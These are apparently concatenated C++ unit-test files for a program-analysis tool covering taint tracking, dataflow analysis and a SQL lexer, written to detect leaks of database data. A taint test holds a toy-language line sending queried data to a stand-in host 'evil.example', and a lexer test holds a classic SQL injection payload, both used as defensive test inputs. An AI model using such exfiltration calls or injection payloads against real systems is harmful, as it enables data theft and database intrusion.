  site.function = fn;
  site.block_id = block;
  site.callee = callee;
  site.reachability = 1.0;
  return site;
}

TEST(CtmTest, AddSiteAssignsIndicesAndDefaults) {
  Ctm ctm("main");
  const size_t a = ctm.AddSite(MakeSite("main", 1, "print"));
  const size_t b = ctm.AddSite(MakeSite("main", 2, "scan"));
  EXPECT_EQ(a, 0u);
  EXPECT_EQ(b, 1u);
  EXPECT_EQ(ctm.num_sites(), 2u);
  // Observable defaults to the callee.
  EXPECT_EQ(ctm.site(a).observable, "print");
  // All probabilities start at zero.
  EXPECT_DOUBLE_EQ(ctm.entry_to(a), 0.0);
  EXPECT_DOUBLE_EQ(ctm.between(a, b), 0.0);
}

TEST(CtmTest, AddSiteDeduplicatesByKey) {
  Ctm ctm("main");
  const size_t a = ctm.AddSite(MakeSite("main", 1, "print"));
  const size_t again = ctm.AddSite(MakeSite("main", 1, "print"));
  EXPECT_EQ(a, again);
  EXPECT_EQ(ctm.num_sites(), 1u);
  // Different block => different site even with the same callee.
  const size_t other = ctm.AddSite(MakeSite("main", 2, "print"));
  EXPECT_NE(a, other);
}

TEST(CtmTest, IndexOfKey) {
  Ctm ctm("main");
  ctm.AddSite(MakeSite("f", 3, "print"));
  EXPECT_EQ(ctm.IndexOfKey("f:3"), 0);
  EXPECT_EQ(ctm.IndexOfKey("f:9"), -1);
}

TEST(CtmTest, FlowAccessorsAndSums) {
  Ctm ctm("main");
  const size_t a = ctm.AddSite(MakeSite("main", 1, "a"));
  const size_t b = ctm.AddSite(MakeSite("main", 2, "b"));
  ctm.set_entry_to(a, 0.6);
  ctm.set_entry_to(b, 0.3);
  ctm.set_entry_to_exit(0.1);
  ctm.set_between(a, b, 0.4);
  ctm.set_to_exit(a, 0.2);
  ctm.set_to_exit(b, 0.7);
  EXPECT_DOUBLE_EQ(ctm.Inflow(a), 0.6);
  EXPECT_DOUBLE_EQ(ctm.Outflow(a), 0.6);  // 0.4 + 0.2
  EXPECT_DOUBLE_EQ(ctm.Inflow(b), 0.7);   // 0.3 + 0.4
  EXPECT_DOUBLE_EQ(ctm.Outflow(b), 0.7);
  EXPECT_TRUE(ctm.CheckInvariants().ok())
      << ctm.CheckInvariants().ToString();
}

TEST(CtmTest, InvariantViolationsReported) {
  Ctm ctm("main");
  const size_t a = ctm.AddSite(MakeSite("main", 1, "a"));
  ctm.set_entry_to(a, 0.5);  // entry row sums to 0.5 != 1
  ctm.set_to_exit(a, 0.5);
  auto status = ctm.CheckInvariants();
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("entry row"), std::string::npos);

  ctm.set_entry_to_exit(0.5);  // entry row fixed; exit column = 1 now
  EXPECT_TRUE(ctm.CheckInvariants().ok());

  // A self-loop keeps a site balanced (adds to inflow AND outflow)...
  ctm.set_between(a, a, 0.25);
  EXPECT_TRUE(ctm.CheckInvariants().ok());
  // ... but an asymmetric transition to another site does not.
  const size_t b = ctm.AddSite(MakeSite("main", 2, "b"));
  ctm.set_between(a, b, 0.25);
  auto flow = ctm.CheckInvariants();
  EXPECT_FALSE(flow.ok());
  EXPECT_NE(flow.message().find("inflow"), std::string::npos);
}

TEST(CtmTest, RemoveSiteShiftsIndicesAndPreservesEntries) {
  Ctm ctm("main");
  const size_t a = ctm.AddSite(MakeSite("main", 1, "a"));
  const size_t b = ctm.AddSite(MakeSite("main", 2, "b"));
  const size_t c = ctm.AddSite(MakeSite("main", 3, "c"));
  ctm.set_entry_to(a, 1.0);
  ctm.set_between(a, b, 0.5);
  ctm.set_between(a, c, 0.5);
  ctm.set_to_exit(b, 0.5);
  ctm.set_to_exit(c, 0.5);

  ctm.RemoveSite(b);
  ASSERT_EQ(ctm.num_sites(), 2u);
  EXPECT_EQ(ctm.site(0).callee, "a");
  EXPECT_EQ(ctm.site(1).callee, "c");
  // Entries for the remaining sites survive at their new indices.
  EXPECT_DOUBLE_EQ(ctm.entry_to(0), 1.0);
  EXPECT_DOUBLE_EQ(ctm.between(0, 1), 0.5);
  EXPECT_DOUBLE_EQ(ctm.to_exit(1), 0.5);
  // The key index is rebuilt.
  EXPECT_EQ(ctm.IndexOfKey("main:3"), 1);
  EXPECT_EQ(ctm.IndexOfKey("main:2"), -1);
}

TEST(CtmTest, ToStringShowsObservables) {
  Ctm ctm("report");
  Site labeled = MakeSite("report", 7, "print");
  labeled.labeled = true;
  labeled.observable = "print_Qreport_7";
  ctm.AddSite(std::move(labeled));
  const std::string text = ctm.ToString();
  EXPECT_NE(text.find("report()"), std::string::npos);
  EXPECT_NE(text.find("print_Qreport_7"), std::string::npos);
  EXPECT_NE(text.find("eps'"), std::string::npos);
}

TEST(SiteTest, KeyIsFunctionAndBlock) {
  EXPECT_EQ(MakeSite("main", 4, "x").Key(), "main:4");
  EXPECT_EQ(MakeSite("helper", 0, "y").Key(), "helper:0");
}

}  // namespace
}  // namespace adprom::analysis
