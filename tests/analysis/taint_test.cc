#include "analysis/taint.h"

#include <gtest/gtest.h>

#include "analysis/labeling.h"
#include "prog/program.h"

namespace adprom::analysis {
namespace {

util::Result<TaintResult> TaintOf(const std::string& source) {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  return RunTaintAnalysis(*program, TaintConfig::Default());
}

TEST(TaintTest, DirectFlowFromQueryToPrint) {
  auto taint = TaintOf(R"(
fn main() {
  var r = db_query("SELECT * FROM accounts");
  print(r);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintTest, UntaintedPrintIsNotLabeled) {
  auto taint = TaintOf(R"(
fn main() {
  var r = db_query("SELECT * FROM accounts");
  print("static text");
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_TRUE(taint->labeled_sinks.empty());
}

TEST(TaintTest, FlowThroughVariablesAndConcatenation) {
  auto taint = TaintOf(R"(
fn main() {
  var r = db_query("SELECT name FROM users");
  var v = db_getvalue(r, 0, 0);
  var msg = "user: " + v;
  print(msg);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintTest, InterproceduralThroughArgument) {
  auto taint = TaintOf(R"(
fn main() {
  var r = db_query("SELECT * FROM t");
  show(r);
}
fn show(data) {
  print(data);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintTest, InterproceduralThroughReturn) {
  auto taint = TaintOf(R"(
fn main() {
  var v = fetch();
  print(v);
}
fn fetch() {
  var r = db_query("SELECT * FROM t");
  return db_getvalue(r, 0, 0);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintTest, WriteFileSinkAndSourceMapping) {
  auto program = prog::ParseProgram(R"(
fn main() {
  var r = db_query("SELECT ssn FROM employees WHERE id = 1");
  write_file("out.txt", db_getvalue(r, 0, 0));
}
)");
  ASSERT_TRUE(program.ok());
  auto taint = RunTaintAnalysis(*program, TaintConfig::Default());
  ASSERT_TRUE(taint.ok());
  ASSERT_EQ(taint->labeled_sinks.size(), 1u);
  const auto& [sink, sources] = *taint->labeled_sinks.begin();
  // Statically resolved table provenance of the DDG edge.
  const auto tables = StaticSourceTables(*program, sources);
  ASSERT_EQ(tables.size(), 1u);
  EXPECT_EQ(tables[0], "employees");
}

TEST(TaintTest, NoImplicitFlowThroughConditions) {
  // Branching on TD does not taint what is printed inside the branch.
  auto taint = TaintOf(R"(
fn main() {
  var r = db_query("SELECT COUNT(*) FROM t");
  var n = db_ntuples(r);
  if (n > 5) { print("many rows"); }
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_TRUE(taint->labeled_sinks.empty());
}

TEST(TaintTest, ScanInputIsNotTargetedData) {
  auto taint = TaintOf(R"(
fn main() {
  var s = scan();
  print(s);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_TRUE(taint->labeled_sinks.empty());
}

TEST(TaintTest, MultipleSinksAndSharedSource) {
  auto taint = TaintOf(R"(
fn main() {
  var r = db_query("SELECT * FROM t");
  var v = db_getvalue(r, 0, 0);
  print(v);
  write_file("f.txt", v);
  send_net("evil.example", v);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_EQ(taint->labeled_sinks.size(), 3u);
}

TEST(TaintTest, FixpointThroughMutualFunctions) {
  // Taint flows a -> b -> a's variable across multiple passes.
  auto taint = TaintOf(R"(
fn main() {
  var v = a();
  print(v);
}
fn a() {
  return b();
}
fn b() {
  var r = db_query("SELECT * FROM deep");
  return db_getvalue(r, 0, 0);
}
)");
  ASSERT_TRUE(taint.ok());
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(LabelingTest, LabeledObservableFormat) {
  EXPECT_EQ(LabeledObservable("print", "main", 12), "print_Qmain_12");
  EXPECT_EQ(LabeledObservable("write_file", "f", 3), "write_file_Qf_3");
}

TEST(LabelingTest, ExtractsTablesFromMultipleKeywords) {
  auto program = prog::ParseProgram(R"src(
fn main() {
  var r1 = db_query("SELECT * FROM alpha");
  var r2 = db_query("INSERT INTO beta VALUES (1)");
  var v = db_getvalue(r1, 0, 0) + db_getvalue(r2, 0, 0);
  print(v);
}
)src");
  ASSERT_TRUE(program.ok());
  auto taint = RunTaintAnalysis(*program, TaintConfig::Default());
  ASSERT_TRUE(taint.ok());
  ASSERT_EQ(taint->labeled_sinks.size(), 1u);
  const auto tables =
      StaticSourceTables(*program, taint->labeled_sinks.begin()->second);
  EXPECT_EQ(tables.size(), 2u);
}

}  // namespace
}  // namespace adprom::analysis
