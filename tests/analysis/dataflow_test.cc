// Tests of the dataflow framework: FlowGraph construction, the generic
// worklist solver, reaching definitions, liveness, and the flow-sensitive
// taint client.

#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "analysis/dataflow/flow_graph.h"
#include "analysis/dataflow/liveness.h"
#include "analysis/dataflow/reaching_defs.h"
#include "analysis/dataflow/solver.h"
#include "analysis/dataflow/taint_flow.h"
#include "analysis/taint.h"
#include "prog/program.h"
#include "util/logging.h"

namespace adprom::analysis::dataflow {
namespace {

prog::Program Parse(const std::string& source) {
  auto program = prog::ParseProgram(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  return std::move(*program);
}

const prog::FunctionDef& FindFn(const prog::Program& program,
                                const std::string& name) {
  for (const prog::FunctionDef& fn : program.functions()) {
    if (fn.name == name) return fn;
  }
  ADPROM_CHECK_MSG(false, "no such function");
  return program.functions()[0];
}

// ---------------------------------------------------------------- FlowGraph

TEST(FlowGraphTest, StraightLineShape) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  a = a + 1;
  print(a);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  EXPECT_EQ(graph.function_name(), "main");
  size_t defs = 0, evals = 0;
  for (const FlowNode& node : graph.nodes()) {
    if (node.op == FlowOp::kDef) ++defs;
    if (node.op == FlowOp::kEval) ++evals;
  }
  EXPECT_EQ(defs, 2u);
  EXPECT_EQ(evals, 1u);
  EXPECT_TRUE(graph.unreachable_lines().empty());
  // Entry reaches exit.
  const std::vector<int> order = graph.ReversePostOrder();
  ASSERT_EQ(order.size(), graph.size());
  EXPECT_EQ(order.front(), graph.entry_id());
}

TEST(FlowGraphTest, DefNodesDistinguishDeclFromAssign) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  a = 2;
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  bool saw_decl = false, saw_assign = false;
  for (const FlowNode& node : graph.nodes()) {
    if (node.op != FlowOp::kDef) continue;
    EXPECT_EQ(node.def, "a");
    if (node.is_decl) saw_decl = true;
    else saw_assign = true;
  }
  EXPECT_TRUE(saw_decl);
  EXPECT_TRUE(saw_assign);
}

TEST(FlowGraphTest, StatementsAfterReturnAreUnreachable) {
  prog::Program program = Parse(R"(
fn main() {
  print("reached");
  return 1;
  print("never");
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  ASSERT_EQ(graph.unreachable_lines().size(), 1u);
  EXPECT_EQ(graph.unreachable_lines()[0], 5);
  // The dead print is not lowered into the graph.
  size_t evals = 0;
  for (const FlowNode& node : graph.nodes()) {
    if (node.op == FlowOp::kEval) ++evals;
  }
  EXPECT_EQ(evals, 1u);
}

TEST(FlowGraphTest, BothBranchesReturningMakeTailUnreachable) {
  prog::Program program = Parse(R"(
fn f(x) {
  if (x > 0) {
    return 1;
  } else {
    return 2;
  }
  print("never");
}
fn main() {
  print(f(1));
}
)");
  const FlowGraph graph = FlowGraph::Build(FindFn(program, "f"));
  ASSERT_EQ(graph.unreachable_lines().size(), 1u);
  EXPECT_EQ(graph.unreachable_lines()[0], 8);
}

TEST(FlowGraphTest, LoopHasBackEdgeAndRpoIsComplete) {
  prog::Program program = Parse(R"(
fn main() {
  var i = 0;
  while (i < 10) {
    i = i + 1;
  }
  print(i);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const std::vector<int> order = graph.ReversePostOrder();
  ASSERT_EQ(order.size(), graph.size());
  std::vector<int> pos(graph.size(), -1);
  for (size_t i = 0; i < order.size(); ++i) {
    pos[static_cast<size_t>(order[i])] = static_cast<int>(i);
  }
  for (int p : pos) EXPECT_GE(p, 0);
  size_t backward = 0;
  for (const FlowNode& node : graph.nodes()) {
    for (int succ : node.succs) {
      // preds/succs must be mirror images.
      const FlowNode& s = graph.node(succ);
      EXPECT_NE(std::find(s.preds.begin(), s.preds.end(), node.id),
                s.preds.end());
      if (pos[static_cast<size_t>(succ)] < pos[static_cast<size_t>(node.id)]) {
        ++backward;
      }
    }
  }
  EXPECT_EQ(backward, 1u);  // exactly the while back edge

  const std::vector<int> border = graph.BackwardReversePostOrder();
  ASSERT_EQ(border.size(), graph.size());
  EXPECT_EQ(border.front(), graph.exit_id());
}

TEST(FlowGraphTest, CollectVarReadsFindsEveryRead) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  var b = 2;
  print(a + b * a, len("x"));
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  for (const FlowNode& node : graph.nodes()) {
    if (node.op != FlowOp::kEval) continue;
    std::vector<std::string> reads;
    CollectVarReads(*node.expr, &reads);
    EXPECT_EQ(reads, (std::vector<std::string>{"a", "b", "a"}));
  }
}

// ------------------------------------------------------------------ solver

// A toy forward client: collects the ids of every branch node on some
// path from the entry to the node. Exercises joins at merge points.
struct BranchTraceClient {
  using Domain = std::set<int>;
  Domain Boundary() const { return {}; }
  void Join(Domain* into, const Domain& from) const {
    into->insert(from.begin(), from.end());
  }
  Domain Transfer(const FlowNode& node, const Domain& in) {
    Domain out = in;
    if (node.op == FlowOp::kBranch) out.insert(node.id);
    return out;
  }
};

TEST(SolverTest, ForwardJoinAccumulatesOverMerges) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  if (a > 0) {
    a = 2;
  }
  while (a < 10) {
    a = a + 1;
  }
  print(a);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  BranchTraceClient client;
  const auto result = Solve(graph, Direction::kForward, &client);
  ASSERT_EQ(result.states.size(), graph.size());
  // The exit has seen both the if branch and the while branch.
  const auto& exit_in = result.states[static_cast<size_t>(graph.exit_id())].in;
  EXPECT_EQ(exit_in.size(), 2u);
  // The entry has seen neither.
  EXPECT_TRUE(
      result.states[static_cast<size_t>(graph.entry_id())].out.empty());
}

// -------------------------------------------------------- reaching defs

TEST(ReachingDefsTest, CheckedProgramHasNoUninitUses) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  if (a > 0) {
    a = 2;
  }
  print(a);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const ReachingDefsResult result = ComputeReachingDefs(graph, {});
  EXPECT_TRUE(result.maybe_uninit.empty());
}

TEST(ReachingDefsTest, BranchLocalDeclIsMaybeUninitAfterMerge) {
  // if (c) { var x = 1; } print(x);  — rejected by the scope checker, but
  // representable as a hand-built AST; the else path reaches the read
  // with no definition.
  prog::FunctionDef fn;
  fn.name = "f";
  fn.params = {"c"};
  prog::StmtList then_body;
  auto decl = prog::Stmt::VarDecl("x", prog::Expr::IntLit(1));
  decl->line = 2;
  then_body.push_back(std::move(decl));
  auto branch =
      prog::Stmt::If(prog::Expr::Var("c"), std::move(then_body), {});
  branch->line = 1;
  fn.body.push_back(std::move(branch));
  std::vector<std::unique_ptr<prog::Expr>> args;
  args.push_back(prog::Expr::Var("x"));
  auto use = prog::Stmt::ExprStmt(prog::Expr::Call("print", std::move(args)));
  use->line = 3;
  fn.body.push_back(std::move(use));

  const FlowGraph graph = FlowGraph::Build(fn);
  const ReachingDefsResult result = ComputeReachingDefs(graph, fn.params);
  ASSERT_EQ(result.maybe_uninit.size(), 1u);
  EXPECT_EQ(result.maybe_uninit[0].variable, "x");
  EXPECT_EQ(result.maybe_uninit[0].line, 3);
}

TEST(ReachingDefsTest, ParametersAreDefinedAtEntry) {
  prog::Program program = Parse(R"(
fn f(x) {
  print(x);
  return x;
}
fn main() {
  print(f(1));
}
)");
  const prog::FunctionDef& fn = FindFn(program, "f");
  const FlowGraph graph = FlowGraph::Build(fn);
  const ReachingDefsResult result = ComputeReachingDefs(graph, fn.params);
  EXPECT_TRUE(result.maybe_uninit.empty());
  // Every read of x sees exactly the parameter pseudo-def.
  for (const FlowNode& node : graph.nodes()) {
    if (node.op != FlowOp::kEval) continue;
    const auto& in = result.in_states[static_cast<size_t>(node.id)];
    ASSERT_TRUE(in.count("x"));
    EXPECT_EQ(in.at("x"), std::set<int>({kParamDef}));
  }
}

TEST(ReachingDefsTest, RedefinitionKillsEarlierDef) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  a = 2;
  print(a);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const ReachingDefsResult result = ComputeReachingDefs(graph, {});
  int second_def = -1;
  for (const FlowNode& node : graph.nodes()) {
    if (node.op == FlowOp::kDef && !node.is_decl) second_def = node.id;
  }
  ASSERT_GE(second_def, 0);
  for (const FlowNode& node : graph.nodes()) {
    if (node.op != FlowOp::kEval) continue;
    const auto& in = result.in_states[static_cast<size_t>(node.id)];
    // Only the reassignment reaches the print.
    EXPECT_EQ(in.at("a"), std::set<int>({second_def}));
  }
}

TEST(ReachingDefsTest, LoopMergesBothDefinitions) {
  prog::Program program = Parse(R"(
fn main() {
  var i = 0;
  while (i < 3) {
    i = i + 1;
  }
  print(i);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const ReachingDefsResult result = ComputeReachingDefs(graph, {});
  for (const FlowNode& node : graph.nodes()) {
    if (node.op != FlowOp::kEval) continue;
    // Both the init and the in-loop increment may produce the printed i.
    EXPECT_EQ(result.in_states[static_cast<size_t>(node.id)].at("i").size(),
              2u);
  }
}

// ------------------------------------------------------------- liveness

TEST(LivenessTest, OverwrittenStoreIsDead) {
  prog::Program program = Parse(R"(
fn main() {
  var a = 1;
  a = 2;
  print(a);
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const LivenessResult result = ComputeLiveness(graph);
  ASSERT_EQ(result.dead_stores.size(), 1u);
  EXPECT_EQ(result.dead_stores[0].variable, "a");
  EXPECT_EQ(result.dead_stores[0].line, 3);
  EXPECT_FALSE(result.dead_stores[0].rhs_has_call);
}

TEST(LivenessTest, StoreReadInLoopIsLive) {
  prog::Program program = Parse(R"(
fn main() {
  var i = 0;
  while (i < 3) {
    i = i + 1;
  }
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const LivenessResult result = ComputeLiveness(graph);
  // i's final increment is dead (nothing reads i after the loop), but the
  // initial store is live (read by the loop condition).
  for (const LivenessResult::DeadStore& store : result.dead_stores) {
    EXPECT_NE(store.line, 3);
  }
}

TEST(LivenessTest, DeadStoreWithCallIsMarked) {
  prog::Program program = Parse(R"(
fn main() {
  var r = db_query("DELETE FROM t");
  r = 0;
}
)");
  const FlowGraph graph = FlowGraph::Build(program.functions()[0]);
  const LivenessResult result = ComputeLiveness(graph);
  ASSERT_EQ(result.dead_stores.size(), 2u);
  EXPECT_TRUE(result.dead_stores[0].rhs_has_call);   // the db_query decl
  EXPECT_FALSE(result.dead_stores[1].rhs_has_call);  // r = 0
}

// --------------------------------------------------- flow-sensitive taint

util::Result<TaintResult> FlowTaint(const std::string& source) {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  return RunFlowSensitiveTaint(*program, TaintConfig::Default());
}

util::Result<TaintResult> FlowInsensitiveTaint(const std::string& source) {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  return RunTaintAnalysis(*program, TaintConfig::Default());
}

TEST(TaintFlowTest, DirectFlowIsLabeled) {
  auto taint = FlowTaint(R"(
fn main() {
  var r = db_query("SELECT * FROM accounts");
  print(r);
}
)");
  ASSERT_TRUE(taint.ok()) << taint.status().ToString();
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintFlowTest, OverwriteKillsTaint) {
  const std::string source = R"(
fn main() {
  var v = db_query("SELECT * FROM t");
  v = "clean";
  print(v);
}
)";
  auto fs = FlowTaint(source);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  EXPECT_TRUE(fs->labeled_sinks.empty());
  // The flow-insensitive pass cannot kill and labels the print: this is
  // exactly the spurious label the strong update removes.
  auto fi = FlowInsensitiveTaint(source);
  ASSERT_TRUE(fi.ok());
  EXPECT_EQ(fi->labeled_sinks.size(), 1u);
}

TEST(TaintFlowTest, SinkBeforeTaintIsNotLabeled) {
  const std::string source = R"(
fn main() {
  var v = "hello";
  print(v);
  v = db_query("SELECT * FROM t");
  print_err(v);
}
)";
  auto fs = FlowTaint(source);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  EXPECT_EQ(fs->labeled_sinks.size(), 1u);  // only the print_err
  auto fi = FlowInsensitiveTaint(source);
  ASSERT_TRUE(fi.ok());
  EXPECT_EQ(fi->labeled_sinks.size(), 2u);  // labels both
}

TEST(TaintFlowTest, TaintSurvivesLoops) {
  auto taint = FlowTaint(R"(
fn main() {
  var acc = "";
  var i = 0;
  var r = db_query("SELECT * FROM t");
  while (i < 3) {
    acc = acc + db_getvalue(r, i, 0);
    i = i + 1;
  }
  print(acc);
}
)");
  ASSERT_TRUE(taint.ok()) << taint.status().ToString();
  ASSERT_EQ(taint->labeled_sinks.size(), 1u);
  // Both the db_query and the db_getvalue feed the printed accumulator.
  EXPECT_EQ(taint->labeled_sinks.begin()->second.size(), 2u);
}

TEST(TaintFlowTest, ContextSummariesKeepCallersApart) {
  // The flow-insensitive pass merges every caller of id() into one
  // summary, so the clean call is labeled too; per-call-site summary
  // instantiation keeps them apart.
  const std::string source = R"(
fn id(x) {
  return x;
}
fn main() {
  var r = db_query("SELECT * FROM t");
  print(id(r));
  print(id("clean"));
}
)";
  auto fs = FlowTaint(source);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  EXPECT_EQ(fs->labeled_sinks.size(), 1u);
  auto fi = FlowInsensitiveTaint(source);
  ASSERT_TRUE(fi.ok());
  EXPECT_EQ(fi->labeled_sinks.size(), 2u);
}

TEST(TaintFlowTest, ParamToSinkObligationInstantiatedPerCaller) {
  // show() prints its parameter: the sink inside show() is labeled
  // because one caller passes taint, and the source set names the
  // caller's db_query site.
  auto taint = FlowTaint(R"(
fn show(data) {
  print(data);
}
fn main() {
  var r = db_query("SELECT * FROM t");
  show(r);
  show("clean");
}
)");
  ASSERT_TRUE(taint.ok()) << taint.status().ToString();
  ASSERT_EQ(taint->labeled_sinks.size(), 1u);
  EXPECT_EQ(taint->labeled_sinks.begin()->second.size(), 1u);
}

TEST(TaintFlowTest, RecursiveFlowConverges) {
  auto taint = FlowTaint(R"(
fn rec(v, n) {
  if (n > 0) {
    rec(v, n - 1);
  }
  print(v);
}
fn main() {
  var r = db_query("SELECT * FROM t");
  rec(r, 3);
}
)");
  ASSERT_TRUE(taint.ok()) << taint.status().ToString();
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintFlowTest, ReturnValueCarriesTaint) {
  auto taint = FlowTaint(R"(
fn fetch() {
  return db_query("SELECT * FROM t");
}
fn main() {
  print(fetch());
}
)");
  ASSERT_TRUE(taint.ok()) << taint.status().ToString();
  EXPECT_EQ(taint->labeled_sinks.size(), 1u);
}

TEST(TaintFlowTest, TaintedVarsAreDiagnosed) {
  auto taint = FlowTaint(R"(
fn main() {
  var r = db_query("SELECT * FROM t");
  var copy = r;
  print(copy);
}
)");
  ASSERT_TRUE(taint.ok()) << taint.status().ToString();
  ASSERT_TRUE(taint->tainted_vars.count("main"));
  EXPECT_TRUE(taint->tainted_vars.at("main").count("r"));
  EXPECT_TRUE(taint->tainted_vars.at("main").count("copy"));
}

TEST(TaintFlowTest, SanitizerStopsTheFlow) {
  prog::Program program = Parse(R"(
fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE id = ";
  q = q + to_int(needle);
  var r = db_query(q);
  print(r);
}
)");
  TaintFlowOptions options;
  options.config.source_calls = {"scan"};
  options.config.sink_calls = {"db_query"};
  options.sanitizer_calls = {"to_int"};
  auto result = RunTaintFlowAnalysis(program, options);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_TRUE(result->taint.labeled_sinks.empty());
}

TEST(TaintFlowTest, ConcatBuildTrackingFlagsIncrementalQueries) {
  prog::Program program = Parse(R"(
fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE name = '";
  q = q + needle;
  q = q + "'";
  var r = db_query(q);
  print(r);
}
)");
  TaintFlowOptions options;
  options.config.source_calls = {"scan"};
  options.config.sink_calls = {"db_query"};
  options.track_concat_builds = true;
  auto result = RunTaintFlowAnalysis(program, options);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  ASSERT_EQ(result->taint.labeled_sinks.size(), 1u);
  ASSERT_EQ(result->sink_concat_builds.size(), 1u);
  EXPECT_EQ(result->sink_concat_builds.begin()->first,
            result->taint.labeled_sinks.begin()->first);
  ASSERT_FALSE(result->concat_sites.empty());
  EXPECT_EQ(result->concat_sites[0].variable, "q");
}

TEST(TaintFlowTest, SingleExpressionConcatIsNotAConcatBuild) {
  // Building the query in one expression (the hospital/supermarket apps'
  // style) is not the Fig. 2 strcat pattern.
  prog::Program program = Parse(R"(
fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE id = " + needle;
  var r = db_query(q);
  print(r);
}
)");
  TaintFlowOptions options;
  options.config.source_calls = {"scan"};
  options.config.sink_calls = {"db_query"};
  options.track_concat_builds = true;
  auto result = RunTaintFlowAnalysis(program, options);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->taint.labeled_sinks.size(), 1u);
  EXPECT_TRUE(result->sink_concat_builds.empty());
}

}  // namespace
}  // namespace adprom::analysis::dataflow
