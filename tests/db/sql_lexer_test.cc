#include <gtest/gtest.h>

#include "db/sql_token.h"

namespace adprom::db {
namespace {

TEST(SqlLexerTest, BasicSelect) {
  auto tokens = LexSql("SELECT * FROM items WHERE id = 10");
  ASSERT_TRUE(tokens.ok());
  const auto& t = *tokens;
  ASSERT_GE(t.size(), 9u);
  EXPECT_EQ(t[0].type, SqlTokenType::kKeyword);
  EXPECT_EQ(t[0].text, "SELECT");
  EXPECT_EQ(t[1].type, SqlTokenType::kStar);
  EXPECT_EQ(t[3].type, SqlTokenType::kIdentifier);
  EXPECT_EQ(t[3].text, "items");
  EXPECT_EQ(t[7].type, SqlTokenType::kIntLiteral);
  EXPECT_EQ(t.back().type, SqlTokenType::kEnd);
}

TEST(SqlLexerTest, KeywordsAreCaseInsensitive) {
  auto tokens = LexSql("select id from t");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[0].text, "SELECT");
  EXPECT_EQ((*tokens)[2].text, "FROM");
}

TEST(SqlLexerTest, StringLiteralWithEscape) {
  auto tokens = LexSql("SELECT * FROM t WHERE name = 'O''Brien'");
  ASSERT_TRUE(tokens.ok());
  bool found = false;
  for (const auto& tok : *tokens) {
    if (tok.type == SqlTokenType::kStringLiteral) {
      EXPECT_EQ(tok.text, "O'Brien");
      found = true;
    }
  }
  EXPECT_TRUE(found);
}

TEST(SqlLexerTest, UnterminatedStringIsError) {
  EXPECT_FALSE(LexSql("SELECT 'oops").ok());
}

TEST(SqlLexerTest, Operators) {
  auto tokens = LexSql("a <= 1 AND b <> 2 OR c != 3 AND d >= 4");
  ASSERT_TRUE(tokens.ok());
  int ne_count = 0;
  for (const auto& tok : *tokens) {
    if (tok.type == SqlTokenType::kOperator && tok.text == "!=") ++ne_count;
  }
  EXPECT_EQ(ne_count, 2);  // <> normalizes to !=
}

TEST(SqlLexerTest, RealLiterals) {
  auto tokens = LexSql("SELECT 3.14 FROM t");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[1].type, SqlTokenType::kRealLiteral);
  EXPECT_EQ((*tokens)[1].text, "3.14");
}

TEST(SqlLexerTest, UnexpectedCharacterIsError) {
  auto result = LexSql("SELECT $ FROM t");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), util::StatusCode::kParseError);
}

TEST(SqlLexerTest, InjectedPayloadLexes) {
  // The payload "1' OR '1'='1" spliced into a query produces valid tokens.
  auto tokens = LexSql("SELECT * FROM clients WHERE id='1' OR '1'='1'");
  ASSERT_TRUE(tokens.ok());
  int strings = 0;
  for (const auto& tok : *tokens) {
    if (tok.type == SqlTokenType::kStringLiteral) ++strings;
  }
  EXPECT_EQ(strings, 3);
}

}  // namespace
}  // namespace adprom::db
